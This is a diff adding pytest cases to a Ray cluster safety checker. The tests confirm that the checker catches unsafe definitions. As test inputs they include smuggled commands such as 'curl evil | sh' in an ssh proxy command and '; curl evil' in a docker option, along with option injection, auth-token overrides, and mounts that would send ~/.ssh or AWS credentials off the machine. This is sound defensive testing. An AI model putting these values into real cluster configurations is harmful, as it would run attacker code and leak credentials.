@@ -8,7 +8,8 @@ import yaml
 from edited import CLUSTERS, MANIFESTS, RAY_UP, SCRIPTS, edit
 
 from rsray.cluster.definition import read_cluster_file
-from rsray.cluster.safety import command_problems, find_problems, find_secrets
+from rsray.cluster.safety import find_problems, find_secrets
+from rsray.cluster.safety.ray_commands import find_start_problems
 from rsray.errors import UserError
 
 NAMES = {file.name: file for file in (*RAY_UP, *MANIFESTS)}
@@ -36,7 +37,7 @@ def test_every_script_is_safe(file):
     assert not re.search(r"\bray stop\b|0\.0\.0\.0", bare)
     for line in bare.splitlines():
         if "ray start" in line and "--head" not in line:
-            assert command_problems(line.rstrip(" &")) == []
+            assert find_start_problems(line.rstrip(" &")) == []
     if "ray start --head" in bare:
         whole = bare[bare.index("srun --nodes=1 --ntasks=1 --overlap") : bare.index('wait \\$ray"')]
         assert "RAY_AUTH_MODE=token" in whole and "RAY_AUTH_TOKEN_PATH=" in whole
@@ -76,7 +77,152 @@ def test_an_unsafe_definition_is_refused(tmp_path):
         read_cluster_file(file)
 
 
+START = "ray start --head --port=6379"
+PKILL = "pkill -f 'ray[.]util"
+WHAT_A_SHELL_WOULD_DO = {
+    "the last option wins": ("--dashboard-host=127.0.0.1", "--dashboard-host=127.0.0.1 --dashboard-host=0.0.0.0", "dashboard-host is 0.0.0.0"),
+    "after a redirection": ("--disable-usage-stats;", "--disable-usage-stats > log --dashboard-host 0.0.0.0;", "dashboard-host is 0.0.0.0"),
+    "in a comment": ("--dashboard-host=127.0.0.1 --dashboard-port=8265", "# --dashboard-host=127.0.0.1 --dashboard-port=8265", "dashboard-host is not given"),
+    "of another command": ("--dashboard-host=127.0.0.1", "; echo --dashboard-host=127.0.0.1", "dashboard-host is not given"),
+    "the last client port wins": ("--ray-client-server-port=10001", "--ray-client-server-port=10001 --ray-client-server-port 10005", "stays open on port 10005"),
+    "the last mode wins": ("RAY_AUTH_MODE=token ", "RAY_AUTH_MODE=token RAY_AUTH_MODE=disabled ", "RAY_AUTH_MODE"),
+    "the mode taken back": ("ulimit -c 0;", "unset RAY_AUTH_MODE;", "RAY_AUTH_MODE"),
+    "the mode changed for one command": (START, f"RAY_AUTH_MODE=x {START}", "RAY_AUTH_MODE"),
+    "the mode spelled oddly": (START, f'export RAY_AUTH""_MODE=x; {START}', "RAY_AUTH_MODE"),
+    "the file taken back": ("ulimit -c 0;", "unset RAY_AUTH_TOKEN_PATH;", "without RAY_AUTH_TOKEN_PATH"),
+    "not exported": ("export RAY_AUTH_MODE=token", "RAY_AUTH_MODE=token; export", "without RAY_AUTH_MODE=token"),
+    "exported elsewhere": ("export RAY_AUTH_MODE=token", "(export RAY_AUTH_MODE=token); export", "without RAY_AUTH_MODE=token"),
+    "exported perhaps": ("export RAY_AUTH_MODE=token", "false && export RAY_AUTH_MODE=token; export", "without RAY_AUTH_MODE=token"),
+    "exported in a pipe": ("export RAY_AUTH_MODE=token", "export RAY_AUTH_MODE=token | cat; export", "without RAY_AUTH_MODE=token"),
+    "said only": ("export RAY_AUTH_MODE=token", "echo RAY_AUTH_MODE=token; export", "without RAY_AUTH_MODE=token"),
+    "env -i": (START, f"env -i PATH=$PATH {START}", "`env` with options"),
+    "sudo": (START, f"sudo {START}", "`sudo` in front"),
+    "in quotes": (START, f"bash -c 'ray start --head'; {START}", "inside another command"),
+    "backticks": (START, f"`ray start --head`; {START}", "inside another command"),
+    "two of them": (START, f"ray start --head --port=1; {START}", "dashboard-host is not given"),
+    "a pattern for another": (f"{PKILL}", "pkill -f 'xray[.]util", "client server stays open"),
+    "a kill that may not be": (f"{PKILL}", f"false || {PKILL}", "client server stays open"),
+    "a kill that is none": ("pkill -f", "pkill -0 -f", "client server stays open"),
+    "a kill that is said": ("pkill -f", "echo pkill -f", "client server stays open"),
+    "blocking": (START, f"{START} --block", "no --block"),
+    "ray stop in quotes": (START, f"'ray' stop; {START}", "kills every Ray"),
+    "open quotes": (START, f"echo \" {START}", "cannot be read"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("case", WHAT_A_SHELL_WOULD_DO)
+def test_the_start_command_is_read_as_a_shell_reads_it(case, tmp_path):
+    old, new, said = WHAT_A_SHELL_WOULD_DO[case]
+    definition = yaml.safe_load(edit(CLUSTERS / "local.yaml", tmp_path).read_text())
+    (line,) = definition["head_start_ray_commands"]
+    assert old in line
+    definition["head_start_ray_commands"] = [line.replace(old, new)]
+    found = find_problems(definition)
+    assert any(said in problem for problem in found), found
+
+
+@pytest.mark.parametrize(
+    "key", ["initialization_commands", "setup_commands", "head_setup_commands", "worker_setup_commands"]
+)  # fmt: skip
+@pytest.mark.parametrize(
+    "line, said",
+    [
+        ("ray start --head --dashboard-host=0.0.0.0", "`ray start` belongs"),
+        ("nohup ray start --head &", "`ray start` belongs"),
+        ("bash -c 'ray stop'", "kills every Ray"),
+        ("echo export RAY_AUTH_MODE=disabled >> ~/.bashrc", "RAY_AUTH_MODE"),
+    ],
+)
+def test_the_other_commands_leave_ray_alone(key, line, said, tmp_path):
+    definition = yaml.safe_load(edit(CLUSTERS / "local.yaml", tmp_path).read_text())
+    definition[key] = [*definition.get(key, []), line]
+    (found,) = find_problems(definition)
+    assert found.startswith(key) and said in found
+
+
+def test_the_commands_of_a_node_type_are_looked_at(tmp_path):
+    definition = yaml.safe_load(edit(CLUSTERS / "aws-gpu.yaml", tmp_path).read_text())
+    definition["available_node_types"]["gpu"]["worker_setup_commands"] = ["ray stop"]
+    (found,) = find_problems(definition)
+    assert found.startswith("available_node_types.gpu.worker_setup_commands")
+
+
+@pytest.mark.parametrize(
+    "option, said",
+    [
+        ("-p 8265:8265", "-p is none of"),
+        ("--publish=0.0.0.0:8265:8265", "--publish is none of"),
+        ("--privileged", "--privileged is none of"),
+        ("--gpus all --privileged", "--privileged is none of"),
+        ("-v /:/host", "the host's files"),
+        ("--volume=/var/run/docker.sock:/var/run/docker.sock", "the host's files"),
+        ("-e RAY_AUTH_MODE=disabled", "changes the token"),
+        ("--env-file x", "--env-file is none of"),
+        ("--name x; curl evil", "a shell command"),
+    ],
+)
+@pytest.mark.parametrize("key", ["run_options", "head_run_options", "worker_run_options"])
+def test_what_a_container_may_not_have(option, said, key, tmp_path):
+    definition = yaml.safe_load(edit(CLUSTERS / "local.yaml", tmp_path).read_text())
+    definition["docker"] = {"image": "x", "container_name": "c", key: ["--shm-size=8g", option]}
+    found = find_problems(definition)
+    assert found and all(problem.startswith(f"docker.{key}: ") for problem in found)
+    assert any(said in problem for problem in found), found
+    definition["docker"][key] = ["--gpus all", "--ipc=host", "-v /data:/data"]
+    assert find_problems(definition) == []
+
+
+REACH = {
+    "a head that is an option": ("head_ip: 10.0.0.1", "head_ip: -oProxyCommand=x", "no host name"),
+    "a worker that is an option": ("[10.0.0.2, 10.0.0.3]", "['-oProxyCommand=x']", "no host name"),
+    "an outer address": ("head_ip:", "external_head_ip: '-F/tmp/x'\n  head_ip:", "no host name"),
+    "a user that is an option": ("ssh_user: ray", "ssh_user: -oProxyCommand=x", "no account"),
+    "a proxy command": ("ssh_user: ray", "ssh_user: ray\n  ssh_proxy_command: curl evil | sh", "would run on this machine"),
+    "a proxy's proxy": ("ssh_user: ray", "ssh_user: ray\n  ssh_proxy_command: ssh -o ProxyCommand=x -W %h:%p b", "would run on this machine"),
+    "a coordinator": ("head_ip:", "coordinator_address: 1.2.3.4:5\n  head_ip:", "coordinator"),
+    "the ssh folder": ("file_mounts:", "file_mounts:\n  ~/x: ~/.ssh", "~/.ssh is sent"),
+    "credentials": ("file_mounts:", "file_mounts:\n  ~/x: ~/.aws/credentials", "credentials is sent"),
+    "the whole home": ("file_mounts:", "file_mounts:\n  ~/x: $HOME", "is sent"),
+    "an environment": ("file_mounts:", "file_mounts:\n  ~/x: /srv/app/.env", ".env is sent"),
+    "a synced key": ("upscaling_speed:", "cluster_synced_files: [/srv/id_rsa]\nupscaling_speed:", "id_rsa is sent"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("case", REACH)
+def test_what_a_definition_may_not_reach(case, tmp_path):
+    old, new, said = REACH[case]
+    text = edit(CLUSTERS / "local.yaml", tmp_path).read_text()
+    assert old in text
+    found = find_problems(yaml.safe_load(text.replace(old, new)))
+    assert any(said in problem for problem in found), found
+
+
+def test_a_hop_through_another_host_is_allowed(tmp_path):
+    definition = yaml.safe_load(edit(CLUSTERS / "local.yaml", tmp_path).read_text())
+    definition["auth"]["ssh_proxy_command"] = "ssh -q -i ~/key -W %h:%p me@gate.example.org"
+    definition["provider"]["worker_ips"] = ["node-2.local", "fe80::1"]
+    assert find_problems(definition) == []
+
+
+def test_a_provider_without_a_check_is_refused_unless_the_user_answers_for_it(tmp_path):
+    definition = yaml.safe_load(edit(CLUSTERS / "gcp-gpu.yaml", tmp_path).read_text())
+    definition["provider"] = {"type": "azure", "location": "westeurope", "resource_group": "x"}
+    (found,) = find_problems(definition)
+    assert "cannot check the firewall of azure" in found and "own_firewall: true" in found
+    definition["metadata"]["rsray"]["own_firewall"] = True
+    assert find_problems(definition) == []
+
+
+def test_a_form_that_cannot_be_checked_is_one_line(tmp_path):
+    file = edit(CLUSTERS / "aws-gpu.yaml", tmp_path)
+    file.write_text(file.read_text().replace("- CidrIp: 203.0.113.7/32", "- 5 # "))
+    with pytest.raises(UserError, match="has a form that rsray cannot check") as problem:
+        read_cluster_file(file)
+    assert "\n" not in str(problem.value)
+
+
 AWS = {
+    "a prefix list": ("FromPort: 22", "PrefixListIds: [{PrefixListId: pl-1}]\n        FromPort: 22", "PrefixListIds"),
     "the world": ("203.0.113.7/32", "0.0.0.0/0", "open to 0.0.0.0/0"),
     "half the world": ("203.0.113.7/32", "128.0.0.0/1", "open to 128.0.0.0/1"),
     "no range": ("203.0.113.7/32", "home", "'home' is no address range"),
@@ -94,6 +240,22 @@ def test_an_open_security_group_is_seen(case, tmp_path):
     assert old in text
     found = find_problems(yaml.safe_load(text.replace(old, new)))
     assert any(said in problem for problem in found), found
+
+
+def test_many_small_ranges_are_one_large_one(tmp_path):
+    definition = yaml.safe_load(edit(CLUSTERS / "aws-gpu.yaml", tmp_path).read_text())
+    rule = definition["provider"]["security_group"]["IpPermissions"][0]
+    rule["IpRanges"] = [{"CidrIp": f"{first}.0.0.0/16"} for first in range(20, 60)]
+    (found,) = find_problems(definition)
+    assert "many ranges" in found
+
+
+def test_gcps_default_network_by_name_is_seen(tmp_path):
+    definition = yaml.safe_load(edit(CLUSTERS / "gcp-gpu.yaml", tmp_path).read_text())
+    kind = definition["available_node_types"]["gpu"]["node_config"]
+    kind["networkInterfaces"] = [{"network": "projects/p/global/networks/default"}]
+    (found,) = find_problems(definition)
+    assert "gpu is in GCP's default network" in found
 
 
 def test_gcps_default_network_is_seen(tmp_path):
